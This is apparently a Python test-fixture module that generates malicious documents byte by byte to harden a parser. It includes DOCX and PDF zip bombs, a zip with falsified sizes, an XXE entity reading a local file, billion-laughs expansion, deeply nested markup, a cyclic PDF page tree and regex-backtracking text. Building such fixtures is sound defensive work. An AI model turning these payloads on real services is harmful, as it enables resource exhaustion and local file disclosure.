"""Files that attack a reader, made here byte by byte: none is kept, none comes from outside."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def word(body: str, *, before: str = "", parts: dict[str, bytes] | None = None) -> bytes:
    """A Word document of one paragraph markup; `before` stands in front of the root element."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", TYPES)
        markup = f'<?xml version="1.0"?>{before}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
        package.writestr("word/document.xml", markup)
        for name, data in (parts or {}).items():
            package.writestr(name, data)
    return packed.getvalue()


def paragraph(text: str) -> str:
    """One paragraph."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def zip_bomb() -> bytes:
    """A picture of 300 MB of zeros in a package of some 300 kB."""
    return word(paragraph("2019"), parts={"word/media/image1.png": bytes(300_000_000)})


def lying_zip_bomb() -> bytes:
    """A text part of 150 MB whose stated size is 1 kB, in the list of members and in front of the part."""
    data = word(paragraph("x") + " " * 150_000_000)
    true = struct.pack("<I", _size(data))
    assert data.count(true) == 2
    return data.replace(true, struct.pack("<I", 1000))


def _size(data: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.getinfo("word/document.xml").file_size


def external_entity(secret: str) -> bytes:
    """A document that asks the parser for a file of the machine."""
    declared = f'<!DOCTYPE d [<!ENTITY leak SYSTEM "file://{secret}">]>'
    return word(paragraph("&leak;"), before=declared)


def billion_laughs() -> bytes:
    """Entities of entities: 10^9 words of three kilobytes of markup."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return word(paragraph("&l9;"), before=f'<!DOCTYPE d [<!ENTITY l0 "lol">{levels}]>')


def deep_word(depth: int = 100_000) -> bytes:
    """Content controls within content controls."""
    return word("<w:sdt>" * depth + paragraph("500公斤") + "</w:sdt>" * depth)


def deep_page(depth: int = 200_000) -> bytes:
    """A web page of nested blocks."""
    return b"<html><body>" + b"<div>" * depth + "缉获海洛因500公斤".encode() + b"</div>" * depth


def pdf(objects: dict[int, bytes]) -> bytes:
    """A PDF of the objects, the first of which is the catalogue."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = {}
    for number, content in objects.items():
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + content + b"\nendobj\n")
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (max(objects) + 1))
    for number in range(1, max(objects) + 1):
        out.write(b"%010d 00000 n \n" % offsets.get(number, 0))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (max(objects) + 1, start))
    return out.getvalue()


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _page(contents: bytes, more: dict[int, bytes]) -> bytes:
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            4: contents,
            5: _FONT,
            **more,
        }
    )


def pdf_bomb(megabytes: int = 300) -> bytes:
    """A page whose contents unpack to hundreds of megabytes: zeros packed twice, in a file of some kilobytes."""
    once = zlib.compressobj(9)
    block = bytes(10_000_000)
    inner = b"".join(once.compress(block) for _ in range(megabytes // 10)) + once.flush()
    packed = zlib.compress(inner, 9)
    head = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(packed)
    return _page(head + packed + b"\nendstream", {})


def pdf_without_end() -> bytes:
    """A tree of pages that is its own branch."""
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>",
        }
    )


def pdf_of_many_operators(count: int = 3_000_000) -> bytes:
    """A small file whose one page draws millions of letters."""
    packed = zlib.compress(b"BT /F1 9 Tf " + b"(5) Tj 1 0 Td " * count + b"ET", 9)
    return _page(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream", {})


def endless_numbers(characters: int = 2_500_000) -> bytes:
    """One sentence of nothing but digits, brackets and marks, on which patterns that try every way never end."""
    return ("1,1.1%（一百零一亿" * (characters // 11)).encode()
